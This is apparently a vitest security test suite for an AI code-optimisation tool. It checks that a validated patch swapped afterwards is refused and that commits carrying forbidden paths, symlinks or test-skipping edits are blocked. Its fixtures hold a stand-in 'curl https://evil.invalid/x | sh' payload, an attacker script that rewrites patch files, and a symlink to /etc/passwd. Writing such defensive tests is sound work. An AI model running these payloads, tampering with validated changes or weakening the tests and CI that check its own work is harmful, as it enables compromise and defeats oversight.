import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { RepoConfig } from '../../../src/config/repo-config.ts';
import { PatchIntegrityError } from '../../../src/domain/errors.ts';
import { createTrustedRepo } from '../../../src/optimize/create-trusted-repo.ts';
import type { OptimizeContext } from '../../../src/optimize/optimize-context.ts';
import { patchSha256 } from '../../../src/optimize/patch-sha256.ts';
import { commitPhase } from '../../../src/optimize/phase-handlers/commit-phase.ts';
import type { Publisher } from '../../../src/optimize/publisher.ts';
import { createRunFiles } from '../../../src/optimize/run-files.ts';
import { verifyReportName } from '../../../src/optimize/stored-bench-report.ts';
import { initialPipelineState } from '../../../src/pipeline/initial-pipeline-state.ts';
import type { PipelineState } from '../../../src/pipeline/pipeline-state.ts';
import { cleanupAll, commitFiles, createTempDir, createTempRepo } from '../../helpers/git-fixtures.ts';
import { historyOf, optimize, readCheckpoint } from './optimize-cli-harness.ts';
import { createOptimizeFixture, type OptimizeFixture } from './optimize-fixture.ts';

afterAll(cleanupAll);

// S5: OPTIMIZE validates the agent's change and stores it as `change-<n>.patch` in the run folder, which untrusted
// code could reach (no sandbox, or one that leaks). Whatever rewrites that file afterwards, the commit must be
// the validated change or nothing. `--no-sandbox` stands for "the run files were writable", as they were before
// the sandbox, and still are when an operator turns it off.

/** The file both attacks add: inside optimize.allowedPaths (`src/**`), so the diff rules alone would accept it. */
const SMUGGLED = 'src/telemetry.js';
const SMUGGLED_SECTION = [
  `diff --git a/${SMUGGLED} b/${SMUGGLED}`,
  'new file mode 100644',
  '--- /dev/null',
  `+++ b/${SMUGGLED}`,
  '@@ -0,0 +1 @@',
  "+require('node:child_process').exec('curl https://evil.invalid/x | sh');",
  '',
].join('\n');

/** No perf branch in the user's repository, and no commit anywhere in it carries the smuggled file. */
async function expectNothingSmuggled(fixture: OptimizeFixture): Promise<void> {
  expect(await fixture.repo.git('branch', '--list', `perf/${fixture.task}`)).toBe('');
  expect(await fixture.repo.git('log', '--all', '--name-only', '--format=')).not.toContain(SMUGGLED);
}

/** The final report, as the user reads it. */
async function finalReport(fixture: OptimizeFixture): Promise<string> {
  return readFile(path.join(fixture.runDir, 'bots', 'final-report.md'), 'utf8');
}

describe('perfbot optimize: a validated change swapped behind its back', () => {
  it("the PR's test command rewrites change-1.patch during VERIFY: the run stops, nothing is committed", async () => {
    const fixture = await createOptimizeFixture({ optimizer: 'optimizer-fix-slow' });
    // The PR's own test script: passes the tests, then finds the run folder next to its worktree and adds a file.
    const attackerTest = `const assert = require('node:assert');
const fs = require('node:fs');
const path = require('node:path');
const { slowSum } = require('./src/slow.js');
assert.strictEqual(slowSum([1, 2, 3, 4]), 20);
const runs = path.resolve('../../../runs');
for (const task of fs.existsSync(runs) ? fs.readdirSync(runs) : []) {
  for (const name of fs.readdirSync(path.join(runs, task)).filter((file) => /^change-\\d+\\.patch$/.test(file))) {
    const file = path.join(runs, task, name);
    const patch = fs.readFileSync(file, 'utf8');
    if (patch === '' || patch.includes(${JSON.stringify(SMUGGLED)})) continue;
    fs.writeFileSync(file, patch + ${JSON.stringify(SMUGGLED_SECTION)});
    console.log('rewrote ' + file);
  }
}
console.log('tests passed');
`;
    await commitFiles(fixture.repo.dir, { 'test.js': attackerTest }, 'tests');
    const run = await optimize(fixture, ['--target', '20%', '--task', fixture.task, '--no-sandbox']);

    expect(run.code, run.stderr).toBe(1);
    const state = await readCheckpoint(fixture);
    expect(historyOf(state)).toEqual([
      'init: ready',
      'benchmark: baseline measured',
      'analyze: plan written',
      'optimize: changes made',
      'verify: targets met',
      // The reviewers would have been shown the swapped diff: REVIEW is the first to read the file again.
      'review: failed',
      'complete: stopped',
    ]);
    // The attack did happen: the file on disk is the attacker's.
    expect(await readFile(path.join(fixture.runDir, 'change-1.patch'), 'utf8')).toContain(SMUGGLED);
    expect(state.stop?.reason).toMatch(
      /^review failed: change-1\.patch changed after it was validated \(SHA-256 [0-9a-f]{12}…, validated [0-9a-f]{12}…\)/,
    );
    expect(await finalReport(fixture)).toContain('change-1.patch changed after it was validated');
    await expectNothingSmuggled(fixture);
  });

  it('a reviewer rewrites change-1.patch after reviewing the clean diff: the next reader (CONFIRM) refuses, nothing is committed', async () => {
    const fixture = await createOptimizeFixture({
      optimizer: 'optimizer-fix-slow',
      reviewer: './reviewer-swap-patch.mjs',
    });
    const run = await optimize(fixture, ['--target', '20%', '--no-sandbox']);

    expect(run.code, run.stderr).toBe(1);
    const state = await readCheckpoint(fixture);
    expect(historyOf(state)).toEqual([
      'init: ready',
      'benchmark: baseline measured',
      'analyze: plan written',
      'optimize: changes made',
      'verify: targets met',
      'review: no blocking findings',
      // CONFIRM is the first reader after the review: it checks the hash and refuses before anything is committed.
      'confirm: failed',
      'complete: stopped',
    ]);
    expect(await readFile(path.join(fixture.runDir, 'change-1.patch'), 'utf8')).toContain(SMUGGLED);
    // Every reviewer was shown the clean change.
    const reviewerPrompts = await fixture.promptsOf('reviewer');
    expect(reviewerPrompts).toHaveLength(9);
    for (const prompt of reviewerPrompts) expect(prompt).not.toContain(SMUGGLED);
    expect(state.stop?.reason).toMatch(/^confirm failed: change-1\.patch changed after it was validated/);
    expect(state.commitSha).toBeUndefined();
    expect(await finalReport(fixture)).toContain('change-1.patch changed after it was validated');
    await expectNothingSmuggled(fixture);
  });
});

describe('COMMIT re-validates what it commits', () => {
  const FORBIDDEN = [
    'diff --git a/src/slow.js b/src/slow.js',
    '--- a/src/slow.js',
    '+++ b/src/slow.js',
    '@@ -1 +1 @@',
    '-slow();',
    '+fast();',
    'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml',
    'new file mode 100644',
    '--- /dev/null',
    '+++ b/.github/workflows/ci.yml',
    '@@ -0,0 +1 @@',
    '+on: push',
    '',
  ].join('\n');

  /** The real COMMIT handler on a run whose checkpoint records the SHA-256 of `patch` as validated. */
  async function commitWithRecordedHash(patch: string) {
    const repo = await createTempRepo({ files: { 'src/slow.js': 'slow();\n' } });
    const start = repo.shas[0] as string;
    const runDir = await createTempDir('perfbot-run-');
    const files = createRunFiles(runDir);
    await files.writePatch(1, patch);
    await files.writeData(verifyReportName(1), { comparisons: [], geomean: [], method: { confidence: 0.95 } });
    const trusted = await createTrustedRepo({ gitDir: path.join(runDir, 'trusted.git'), source: repo.dir });
    const published: string[] = [];
    const publisher: Publisher = {
      publish: async (request) => {
        published.push(request.sha);
        return { sha: request.sha, pushed: false };
      },
    };
    const ctx = {
      runId: 'run-1',
      config: RepoConfig.parse({ optimize: { allowedPaths: ['src/**', '.github/**'] } }),
      start: { ref: 'main', sha: start },
      agent: { name: 'scripted', type: 'command' },
      trusted,
      files,
      // Not opened in this process, so artifacts only go to the run files (as `createTaskWorktree` does).
      worktree: { writeBot: async () => undefined },
      publisher,
      commitIdentity: { name: 'Perfbot', email: 'perfbot@example.invalid' },
      now: () => new Date('2026-01-01T00:00:00Z'),
      signal: new AbortController().signal,
    } as unknown as OptimizeContext;
    const state: PipelineState = {
      ...initialPipelineState({
        runId: 'run-1',
        branch: 'perf/run-1',
        targets: [{ kind: 'anyImprovement', metric: 'time', source: 'default' }],
        startedAt: '2026-01-01T00:00:00Z',
      }),
      phase: 'commit',
      iteration: 1,
      patchSha256: patchSha256(patch),
      latest: { iteration: 1, reportJsonPath: 'bots/benchmark-after-1.json', figures: [] },
    };
    const error = await commitPhase(ctx, state).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    return { error, published, trusted };
  }

  it('refuses a patch with a forbidden path even though its SHA-256 is the recorded one, and publishes nothing', async () => {
    const { error, published } = await commitWithRecordedHash(FORBIDDEN);
    expect(error).toBeInstanceOf(PatchIntegrityError);
    expect((error as PatchIntegrityError).problem).toBe('invalid');
    expect((error as PatchIntegrityError).message).toBe(
      'change-1.patch breaks the diff rules, so Perfbot refuses to commit it: .github/workflows/ci.yml (CI configuration may not be changed by the agent: it would change what verifies its own work)',
    );
    expect(published).toEqual([]);
  });

  it('judges the files the commit carries, not what the patch headers claim', async () => {
    // A section whose `diff --git` header names an allowed file but whose content creates a symlink.
    const symlink = [
      'diff --git a/src/link.js b/src/link.js',
      'new file mode 120000',
      '--- /dev/null',
      '+++ b/src/link.js',
      '@@ -0,0 +1 @@',
      '+/etc/passwd',
      '\\ No newline at end of file',
      '',
    ].join('\n');
    const { error, published } = await commitWithRecordedHash(symlink);
    expect((error as PatchIntegrityError).violations).toEqual([
      { path: 'src/link.js', reason: 'symlinks are not allowed: they can point outside the repository' },
    ]);
    expect(published).toEqual([]);
  });

  it('refuses a protected test file and an added skip marker at COMMIT too', async () => {
    const patch = [
      'diff --git a/src/slow.js b/src/slow.js',
      '--- a/src/slow.js',
      '+++ b/src/slow.js',
      '@@ -1 +1,2 @@',
      ' slow();',
      "+it.skip('inline check', () => {});",
      'diff --git a/src/slow.test.js b/src/slow.test.js',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/src/slow.test.js',
      '@@ -0,0 +1 @@',
      '+// nothing to see',
      '',
    ].join('\n');
    const { error, published } = await commitWithRecordedHash(patch);
    expect(
      (error as PatchIntegrityError).violations?.map((violation) => [violation.path, violation.reason.split(':')[0]]),
    ).toEqual([
      ['src/slow.test.js', 'protected (**/*.test.*)'],
      ['src/slow.js', 'adds test-skipping markers (`it.skip`/`.todo`/`.only`)'],
    ]);
    expect(published).toEqual([]);
  });

  it('commits a valid patch whose SHA-256 matches', async () => {
    const valid = FORBIDDEN.slice(0, FORBIDDEN.indexOf('diff --git a/.github'));
    const { error, published, trusted } = await commitWithRecordedHash(valid);
    expect(error).toBeUndefined();
    expect(published).toHaveLength(1);
    expect(await trusted.readFile(published[0] as string, 'src/slow.js')).toBe('fast();\n');
  });
});
